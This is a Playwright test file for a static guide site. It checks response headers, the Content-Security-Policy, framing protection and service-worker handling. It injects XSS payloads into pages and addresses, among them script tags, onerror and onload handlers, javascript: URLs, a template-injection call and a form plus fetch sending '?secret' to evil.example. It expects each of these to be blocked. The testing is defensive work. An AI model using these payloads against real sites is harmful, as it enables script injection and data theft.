import { readFileSync } from 'node:fs';
import path from 'node:path';

import { contentPolicy, inlineOf } from '../../src/build/contentPolicy.ts';
import { headersOf, readHeadersFile } from '../../src/build/headersFile.ts';
import { addresses, files, pageFiles, type Step, shortPath } from './builtSite.ts';
import { awake, expect, heading, notFoundLine, onward, open, test } from './visit.ts';

// The site as it is sent: with which headers, and what they keep from happening.

const dist = path.resolve(import.meta.dirname, '../../dist');
const built = (file: string) => readFileSync(path.join(dist, file), 'utf8');
const rules = readHeadersFile(built('_headers'));
const always = headersOf(rules, '/');
const policy = always.find(([name]) => name === 'Content-Security-Policy')?.[1] ?? '';
const step = shortPath.steps[1] as Step;

test('sends everything with the headers of _headers, and no cookie', { tag: '@once' }, async ({
  request,
}) => {
  expect(always.length).toBe(7);
  const served = files.filter((file) => !file.startsWith('/_'));
  for (const address of [...addresses, ...served, '/no-such-page/', '/assets/none.js']) {
    const response = await request.get(address);
    const headers = response.headers();
    const kept = response.ok() && /^\/(ahead|assets|words)\//.test(address);
    expect(headers['cache-control'], address).toBe(kept ? 'public, max-age=31536000, immutable' : 'no-cache');
    for (const [name, value] of always)
      expect(headers[name.toLowerCase()], `${address}: ${name}`).toBe(value);
    expect(headers['set-cookie'], address).toBeUndefined();
  }
  // Row N5.
  const missing = await request.get('/assets/none.js');
  expect([missing.status(), missing.headers()['content-type']]).toEqual([404, 'text/plain; charset=utf-8']);
  for (const file of files.filter((each) => each.startsWith('/_')))
    expect((await request.get(file)).status(), file).toBe(404);
});

test('every page has its own policy in its head, and the host has one for all', { tag: '@once' }, () => {
  expect(pageFiles.length).toBeGreaterThan(addresses.length);
  expect(policy).not.toContain('unsafe');
  for (const file of pageFiles) {
    const html = built(file);
    const { scripts, styles } = inlineOf(html);
    for (const hash of [...scripts, ...styles]) expect(policy, file).toContain(hash);
    // It has one of its own, and is opened from a disk as well.
    if (file === 'open-backup.html') continue;
    const [before = '', after = ''] = html.split(/<meta http-equiv="Content-Security-Policy"[^>]*>/);
    expect(before.replace(/<script id="early"[^>]*>[\s\S]*?<\/script>/, ''), file).toMatch(
      /^<!doctype html>\s*<html[^>]*>\s*<head>\s*<meta charset="utf-8">\s*$/i,
    );
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1];
    expect(meta, file).toBe(contentPolicy(inlineOf(after)));
  }
});

test('lets nothing run, draw or leave that is not of the guide', { tag: '@once' }, async ({
  page,
  context,
  complaints,
  baseURL,
}) => {
  complaints.expect(/Content Security policy|TrustedHTML|TrustedScript|Refused to|request to another host/i);
  // A page into which something got, as it stands on the host.
  await page.route(`**${step.address}`, async (route) => {
    const response = await route.fetch();
    const strange =
      '<script>window.hit="script"</script><style>h1{display:none}</style><img src="data:," onerror="window.hit=1"><p id="strange" style="display:none">Strange</p><iframe src="/about/"></iframe><object data="/about/"></object><base href="https://evil.example/"><form action="https://evil.example/"><button>Send</button></form></body>';
    await route.fulfill({ response, body: (await response.text()).replace('</body>', () => strange) });
  });
  await page.goto(step.address);
  await expect(heading(page, step.title)).toBeVisible();
  await expect(page.locator('#strange')).toBeVisible();
  const tries = await page.evaluate(async () => {
    const attempt = async (what: () => unknown) => {
      try {
        await what();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const picture = () =>
      new Promise((done, fail) => {
        const element = new Image();
        element.onload = done;
        element.onerror = () => fail(new TypeError());
        element.src = 'https://evil.example/?secret';
      });
    const send = () =>
      new Promise((done, fail) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === 'form-action') fail(new TypeError());
        });
        document.addEventListener('submit', () => setTimeout(done, 5000));
        document.querySelector<HTMLButtonElement>('form[action] button')?.click();
      });
    const types = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
      .trustedTypes;
    return {
      hit: 'hit' in window,
      base: document.baseURI.startsWith(location.origin),
      frames: document.querySelector('iframe')?.contentDocument?.body?.textContent ?? '',
      html: await attempt(() => {
        (document.body as { innerHTML: unknown }).innerHTML = '<p>';
      }),
      script: await attempt(() => {
        document.createElement('script').src = '/assets/none.js';
      }),
      policy: await attempt(() => types.createPolicy('other', {})),
      fetch: await attempt(() => fetch('https://evil.example/?secret')),
      picture: await attempt(picture),
      send: await attempt(send),
      worker: await attempt(() => new Worker('/assets/none.js')),
      // Last: what runs at once in a test's own call is let through.
      eval: await attempt(() => Function('return 1')()),
    };
  });
  expect(tries).toEqual({
    hit: false,
    base: true,
    frames: '',
    html: 'TypeError',
    script: 'TypeError',
    policy: 'TypeError',
    fetch: 'TypeError',
    picture: 'TypeError',
    send: 'TypeError',
    worker: 'TypeError',
    eval: 'EvalError',
  });
  // Nobody can put the guide into a page of their own.
  const other = await context.newPage();
  await other.setContent(`<iframe src="${baseURL}${step.address}"></iframe>`);
  await expect(other.frameLocator('iframe').getByRole('heading', { name: step.title })).toHaveCount(0);
});

/** What would run, if it came to be part of a page. */
const scripts = [
  '<script>window.hit=1</script>',
  '"><script>window.hit=1</script>',
  "'><img src=x onerror=window.hit=1>",
  '<svg onload=window.hit=1>',
  '</script><script>window.hit=1</script>',
  '</title><script>window.hit=1</script>',
  '<iframe srcdoc="<script>top.hit=1</script>">',
  'javascript:window.hit=1',
  '{{constructor.constructor("window.hit=1")()}}',
  '`-window.hit=1-`',
  '"-window.hit=1-"',
  '<a href="javascript:window.hit=1" autofocus onfocus=window.hit=1>',
];

// Row U9: a script in the path, the query or the hash, for an address that is there and one that is not. Row N15.
for (const [place, put] of [
  ['path', (script: string) => `/partner/${encodeURIComponent(script)}/`],
  [
    'query and the hash',
    (script: string) => `${step.address}?q=${encodeURIComponent(script)}&${script}#${script}`,
  ],
] as const) {
  test(`a script in the ${place} of an address comes to nothing (U9)`, { tag: '@once' }, async ({
    page,
    context,
    complaints,
  }) => {
    if (place === 'path') complaints.expect(notFoundLine);
    for (const script of scripts) {
      await page.goto('about:blank');
      await page.goto(put(script));
      await awake(page);
      const seen = await page.evaluate(() => ({
        hit: 'hit' in window,
        strange: document.querySelectorAll('#root :is(script, iframe, img, [onload], [onerror], [onfocus])')
          .length,
        html: document.documentElement.outerHTML.includes('window.hit'),
      }));
      expect(seen, script).toEqual({ hit: false, strange: 0, html: false });
    }
    expect(await context.cookies()).toEqual([]);
  });
}

test('has no page fetched ahead once steps are shown inside the app', { tag: '@once' }, async ({ page }) => {
  const [first, second, third] = shortPath.steps as [Step, Step, Step];
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(new URL(request.url()).pathname));
  const isAheadOf = ({ address }: Step) =>
    asked.some(
      (pathname) => pathname.startsWith('/ahead/') && pathname.endsWith(`${address.slice(0, -1)}.html`),
    );
  const early = page.locator('#early');
  expect(await (await page.request.get(first.address)).text()).toContain('<script id="early"');
  await open(page, first.address);
  await expect.poll(() => isAheadOf(second)).toBe(true);
  await onward(page).click();
  await expect(heading(page, second.title)).toBeFocused();
  await expect(early).toHaveCount(0);
  expect(isAheadOf(third)).toBe(false);
});

// Row N12: what a hotel answers for every address until one has signed in there.
test('takes no page for its worker or manifest (N12)', { tag: '@once' }, async ({ browser, baseURL }) => {
  const context = await browser.newContext({ serviceWorkers: 'allow', baseURL: baseURL ?? '' });
  const html = { contentType: 'text/html', body: '<!doctype html><h1>Sign in</h1>' };
  const asked: string[] = [];
  await context.route(/\/(sw\.js|manifest\.webmanifest)$/, async (route) => {
    asked.push(new URL(route.request().url()).pathname);
    await route.fulfill(html);
  });
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(String(error)));
  await open(page, step.address);
  await expect.poll(() => asked).toContain('/sw.js');
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  await expect(heading(page, step.title)).toBeVisible();
  expect(errors).toEqual([]);
  await context.close();
});
